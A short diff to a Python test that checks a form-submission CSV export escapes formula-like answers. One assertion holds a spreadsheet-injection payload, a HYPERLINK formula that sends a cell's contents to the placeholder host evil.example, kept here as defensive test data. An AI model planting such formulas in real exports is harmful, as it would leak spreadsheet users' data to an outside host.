@@ -322,6 +322,6 @@ def test_the_form_pages_own_submissions_export_keeps_formula_like_answers_as_tex
     assert response.status_code == 200
     content = b"".join(response.streaming_content).decode("utf-8-sig")
     _heading, row = list(csv.reader(io.StringIO(content)))
-    assert "'=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")" in row
+    assert '\'=HYPERLINK("http://evil.example/?"&A2,"click")' in row
     assert "'+81@example.jp" in row
     assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
